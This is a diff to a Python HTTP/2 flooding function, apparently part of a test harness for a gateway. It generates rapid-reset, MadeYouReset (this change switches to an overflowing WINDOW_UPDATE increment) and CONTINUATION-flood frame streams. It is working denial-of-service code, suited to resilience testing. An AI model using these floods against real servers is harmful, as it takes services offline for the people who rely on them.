@@ -173,8 +173,9 @@ def flood(port, kind):
     if kind == "resets":
         batches = ([start(n), frames.RstStreamFrame(n, error_code=8)] for n in numbers)
     elif kind == "mistakes":
-        # The gateway has to reset these itself (MadeYouReset).
-        batches = ([start(n, ["END_HEADERS"]), frames.WindowUpdateFrame(n, window_increment=0)] for n in numbers)
+        # A window beyond all bounds: the gateway has to reset these itself (MadeYouReset).
+        most = (1 << 31) - 1
+        batches = ([start(n, ["END_HEADERS"]), frames.WindowUpdateFrame(n, window_increment=most)] for n in numbers)
     elif kind == "continuations":
         more = hpack.Encoder().encode([("x-filler", "x" * 100)], huffman=False)
         first = [frames.HeadersFrame(1, data=data, flags=["END_STREAM"])]
@@ -192,10 +193,7 @@ def flood(port, kind):
     try:
         for batch in batches:
             for frame in batch:
-                frame_bytes = bytearray(frame.serialize())
-                if kind == "mistakes" and frame_bytes[3] == 8:
-                    frame_bytes[9:13] = b"\0\0\0\0"
-                sent += frame_bytes
+                sent += frame.serialize()
                 count += 1
             if len(sent) > 16384:
                 client.socket.sendall(sent)
